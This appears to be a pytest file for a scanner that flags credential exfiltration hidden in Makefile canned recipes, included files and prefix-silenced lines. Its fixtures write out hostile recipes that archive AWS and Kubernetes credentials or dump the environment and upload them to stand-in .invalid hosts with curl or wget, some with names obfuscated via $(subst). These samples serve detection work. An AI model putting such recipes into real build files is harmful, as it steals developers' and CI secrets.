"""Make's multi-line variables: a ``define NAME`` … ``endef`` block is a canned recipe that a rule runs
through ``$(call NAME,args)`` (``$(1)``, ``$(2)`` its arguments) or ``$(NAME)``, in the Makefile or a
file it includes. What the block does is what the calling rule does. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings

_KEYS_SHIPPED_BY_A_CANNED_RECIPE = (
    "DROP = https://artifacts.mirror-sync.invalid/in\n"
    "\n"
    "define ship_login\n"
    "\ttar czf $(2) $(HOME)/.aws/credentials $(HOME)/.kube/config\n"
    "\n"
    "\t# the reviewer downloads it from here\n"
    "\tcurl -s -T $(2) $(1)/$(notdir $(2))\n"
    "endef\n"
    "\n"
    "release:\n"
    "\t@echo building\n"
    "\t$(call ship_login,$(DROP),out/ctx.tgz)\n"
)


def test_a_call_runs_the_canned_recipe_with_its_arguments(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"Makefile": _KEYS_SHIPPED_BY_A_CANNED_RECIPE})
    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 12) in errors


def test_a_block_in_an_included_file_referenced_by_name(tmp_path: Path) -> None:
    files = {
        "make/telemetry.mk": (
            "SINK := stats.ci-warmers.invalid\n"
            "define report_env =\n"
            "printenv | base64 -w0 > .ctx; \\\n"
            "wget -q --post-file=.ctx http://$(SINK)/v1\n"
            "endef\n"
        ),
        "Makefile": "include make/telemetry.mk\n\ncheck:\n\t@$(report_env)\n\tpytest -q\n",
    }
    errors = scan_errors(tmp_path, files)
    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 4) in errors


def test_a_canned_recipe_that_only_compresses_its_argument_is_clean(tmp_path: Path) -> None:
    makefile = (
        "define compress\n"
        "\t# keep a checksum beside each archive\n"
        "\n"
        "\tgzip -9 -c $(1) > $(1).gz\n"
        "\tsha256sum $(1).gz > $(1).gz.sha256\n"
        "endef\n"
        "\n"
        "dist: report.csv\n"
        "\t$(call compress,report.csv)\n"
    )
    assert scan_findings(tmp_path, {"Makefile": makefile}) == []


def test_the_lines_of_a_block_are_not_read_as_rules(tmp_path: Path) -> None:
    makefile = 'define banner\necho "see: https://docs.example.org/build"\nendef\n\nall:\n\t@$(banner)\n'
    assert scan_findings(tmp_path, {"Makefile": makefile}) == []


# Make reads a recipe line's @-+ prefixes after expansion: `$(Q)cmd` with `Q := @` runs `cmd` silenced,
# and a canned recipe's own `@$(CMD) | curl …` line runs `$(CMD)`, its name perhaps assembled by `$(subst)`.


def test_a_silencing_variable_before_a_command_leaves_the_command_read(tmp_path: Path) -> None:
    makefile = (
        "Q ?= @\n"
        "DUMP := print$(subst q,,qenv)\n"
        "\n"
        "report:\n"
        "\t$(Q)$(DUMP) | curl -s -X POST --data-binary @- https://collect.build-stats.invalid/in\n"
    )
    errors = scan_errors(tmp_path, {"Makefile": makefile})
    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 5) in errors


def test_prefixed_lines_of_an_included_canned_recipe_are_commands(tmp_path: Path) -> None:
    files = {
        "build/ci.mk": (
            "STATS := metrics.ci-warmers.invalid\n"
            "SNAP := $(subst _,,e_n_v)\n"
            "define stamp\n"
            "-@$(SNAP) > .stamp-$(1)\n"
            "+@wget -q --post-file=.stamp-$(1) http://$(STATS)/stamp\n"
            "endef\n"
        ),
        "Makefile": "include build/ci.mk\n\ntest:\n\t$(call stamp,unit)\n\tpytest -q\n",
    }
    errors = scan_errors(tmp_path, files)
    assert ("CREDENTIAL_EXFILTRATION", "Makefile", 4) in errors


def test_a_silenced_environment_dump_kept_on_disk_is_quiet(tmp_path: Path) -> None:
    makefile = (
        "Q ?= @\n"
        "define snapshot\n"
        "@env | sort > build/env.txt\n"
        "endef\n"
        "\n"
        "debug:\n"
        "\t$(Q)mkdir -p build\n"
        "\t$(call snapshot)\n"
        "\t$(Q)curl -s https://docs.build-stats.invalid/help.txt\n"
    )
    assert scan_errors(tmp_path, {"Makefile": makefile}) == set()
